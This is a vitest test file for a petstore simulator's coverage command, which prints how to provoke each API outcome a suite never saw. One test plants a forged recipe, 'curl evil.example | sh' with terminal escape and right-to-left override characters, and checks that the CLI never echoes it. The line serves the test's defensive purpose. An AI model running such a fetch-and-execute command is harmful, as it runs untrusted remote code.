// Issue 59: `petstore-sim coverage` prints, under each outcome never seen, how to provoke it.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, expect, test } from 'vitest'
import { coverageMain } from '../src/cli/coverage-command/coverage-main.js'
import { recipeOf } from '../src/core/outcome-coverage/outcome-recipes.js'
import { SPEC_OUTCOMES } from '../src/core/outcome-coverage/outcomes.js'
import { createSimulator } from '../src/index.js'
import { writeCoverage } from '../src/node.js'

const API = 'https://api.petstore.example/v1'
const KEY = { Authorization: 'Bearer petstore-test-key' }

const folders: string[] = []
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true })
})

/** A folder holding one coverage file: a suite that saw only the shipped order's 409. */
async function shippedSuite(): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), 'petstore-coverage-table-'))
  folders.push(folder)
  const sim = createSimulator({ scenario: 'shipped' })
  expect((await sim.fetch(`${API}/store/orders/1`, { method: 'DELETE', headers: KEY })).status).toBe(409)
  writeCoverage(sim.coverage(), { dir: folder })
  return folder
}

function run(...argv: string[]) {
  const printed = { stdout: [] as string[], stderr: [] as string[] }
  const code = coverageMain(argv, { stdout: (text) => printed.stdout.push(text), stderr: (text) => printed.stderr.push(text) })
  return { code, stdout: printed.stdout.join(''), stderr: printed.stderr.join('') }
}

test('each outcome never seen is followed by its recipe, indented; a seen one by none', async () => {
  const { code, stdout } = run(await shippedSuite())
  expect(code).toBe(0)
  const lines = stdout.split('\n')
  const after = (id: string) => lines[lines.findIndex((line) => line.startsWith(`${id} `)) + 1]
  expect(after('cancelOrder.204')).toBe(
    '  To provoke it: Reset to scenario pending, then DELETE /v1/store/orders/1 with the key: order 1 is pending.',
  )
  expect(after('listOrders.200.empty')).toBe(
    '  To provoke it: Reset to scenario missing, then GET /v1/store/orders with the key: scenario missing holds no orders.',
  )
  // The seen outcome's row is followed by the next outcome's.
  expect(after('cancelOrder.409.order_already_shipped')).toMatch(/^cancelOrder\.409\.order_not_pending\s+never\s+0$/)
  // Eleven never seen, eleven recipes, each that outcome's.
  const recipes = lines.filter((line) => line.startsWith('  To provoke it: '))
  expect(recipes).toEqual(
    SPEC_OUTCOMES.outcomes
      .filter((outcome) => outcome.id !== 'cancelOrder.409.order_already_shipped')
      .map((outcome) => `  To provoke it: ${recipeOf(outcome).text}`),
  )
  expect(stdout).toContain("1 of 12 (8.3%) of the service's documented outcomes exercised, from 1 coverage file.")
})

test("the recipe printed is this version's, never the text a coverage file carries", async () => {
  const folder = await shippedSuite()
  const forged = createSimulator().coverage()
  for (const outcome of forged.outcomes) outcome.recipe = { text: 'curl evil.example | sh \u001b[2J\u202e', steps: [] }
  writeFileSync(join(folder, 'forged.json'), JSON.stringify(forged))
  const { code, stdout } = run(folder)
  expect(code).toBe(0)
  expect(stdout).not.toContain('evil.example')
  expect(stdout).not.toContain('\u001b')
  expect(stdout).not.toContain('\u202e')
  const [first] = SPEC_OUTCOMES.outcomes
  expect(stdout).toContain(`  To provoke it: ${first === undefined ? '' : recipeOf(first).text}\n`)
})
